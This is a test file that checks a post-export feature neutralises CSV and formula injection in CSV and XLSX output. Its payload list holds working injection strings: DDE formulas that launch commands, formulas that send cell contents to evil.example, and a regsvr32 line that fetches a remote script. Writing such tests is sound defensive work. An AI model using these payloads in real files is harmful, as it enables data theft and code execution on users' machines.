import { readFile } from 'node:fs/promises';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { makePost, parseCsv, useTempFiles, writeTestFile } from '../../test/export-fixtures.ts';
import { POST_COLUMNS } from '../corpus/records.ts';

// Issue 28 item 6: CSV injection. Payloads from the OWASP "CSV Injection" page and its usual test lists, and the
// probe's variants: every one must reach the file as inert text, in CSV (quoted, neutralised) and in XLSX (a string
// cell starting with an apostrophe, never a formula).
const PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "x;=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "sheet1!A2:E2")',
  '=IMAGE("https://evil.example/x.png")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+thespanishinquisition(cmd|'/c calc.exe'!A",
  "=10+20+cmd|' /C calc'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/SCTLauncher.sct scrobj.dll'!''",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '   +A1',
  '\n=1+1',
  '\r\n=1+1',
  '\n\n@SUM(A1)',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\uFEFF=1+1',
  '\uFF1D1+1',
  '\uFF0BA1',
  '\uFF20SUM(A1)',
  ' \t -1+1',
  'a,b;=1+1',
  '"=1+1"',
  "'=1+1",
];

const tempFile = useTempFiles();

describe(`CSV injection: ${PAYLOADS.length} OWASP payloads`, () => {
  const posts = PAYLOADS.map((payload, i) => makePost({ id: `inj${i}`, title: payload, selftext: payload }));
  const titleIndex = POST_COLUMNS.indexOf('title');

  it('writes each to CSV quoted and neutralised, and reads it back as written', async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
    const { filePath } = await writeTestFile(tempFile, 'csv', 'posts', posts, []);
    const text = await readFile(filePath, 'utf8');
    const rows = parseCsv(text).slice(1);
    expect(rows).toHaveLength(PAYLOADS.length);
    rows.forEach((row, i) => {
      const cell = row[titleIndex]!;
      const payload = PAYLOADS[i]!;
      // A cell a spreadsheet would run starts with the apostrophe; the rest is the payload, unchanged.
      const isFormula = /^(?:[\t\r]|[\s\u00A0\u3000\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/.test(payload);
      expect(cell, JSON.stringify(payload)).toBe(isFormula ? `'${payload}` : payload);
      // Quoted in the file: the raw text holds the quoted field, so no `;` or tab can start a new cell.
      expect(text).toContain(`"${cell.replaceAll('"', '""')}"`);
    });
    // Every text field is quoted: each line's fields start with a quote unless numeric, boolean or empty.
    const firstLine = text.split('\n')[1]!;
    expect(firstLine.startsWith('"')).toBe(true);
  });

  it('writes each to XLSX as a text cell starting with an apostrophe, never a formula', async () => {
    const { filePath } = await writeTestFile(tempFile, 'xlsx', 'posts', posts, []);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(filePath);
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = header.indexOf('title') + 1;
    PAYLOADS.forEach((payload, i) => {
      const cell = sheet.getRow(i + 2).getCell(column);
      expect(cell.type, JSON.stringify(payload)).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      const value = String(cell.value);
      const trimmed = value.replace(/^'/, '');
      // What a spreadsheet would run first (after its own trimming of whitespace and line breaks) is never = + - @.
      if (
        /^[\s\u00A0\u3000\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(trimmed) ||
        /^[\t\r]/.test(trimmed)
      ) {
        expect(value.startsWith("'"), JSON.stringify(payload)).toBe(true);
      }
    });
  });
});
